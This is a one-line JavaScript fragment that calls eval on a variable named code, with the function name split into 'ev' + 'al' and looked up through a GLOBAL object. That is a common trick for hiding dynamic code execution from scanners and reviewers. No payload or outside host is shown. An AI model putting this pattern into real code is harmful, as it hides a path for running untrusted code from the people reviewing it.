GLOBAL['ev' + 'al'](code);
